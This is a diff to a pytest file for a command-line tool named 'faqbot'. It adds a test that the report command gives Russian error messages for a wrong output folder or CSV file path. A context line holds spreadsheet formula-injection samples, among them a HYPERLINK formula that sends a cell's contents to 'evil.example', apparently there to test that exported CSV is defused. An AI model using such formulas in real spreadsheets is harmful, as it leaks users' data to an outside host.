@@ -168,6 +168,22 @@ def test_a_broken_base_is_one_line_in_russian_not_a_traceback(
     assert not out.exists()
 
 
+def test_a_folder_for_the_page_or_a_file_for_the_tables_is_said_in_russian(
+    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["report", "--database", url, "--out", str(tmp_path)]) == 1
+    assert f"«{tmp_path}» — папка: укажите файл отчёта" in capsys.readouterr().err
+    taken = tmp_path / "tables.csv"
+    taken.write_text("x", encoding="utf-8")
+    out = tmp_path / "report.html"
+    arguments = ["report", "--database", url, "--out", str(out), "--csv-dir", str(taken)]
+    assert main(arguments) == 1
+    assert capsys.readouterr().err == (
+        f"faqbot: «{taken}» — файл, а для таблиц CSV нужна папка (новую создадим).\n"
+    )
+    assert not out.exists()
+
+
 FORMULA_QUESTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "@SUM(1,1) ошибка")
 
 
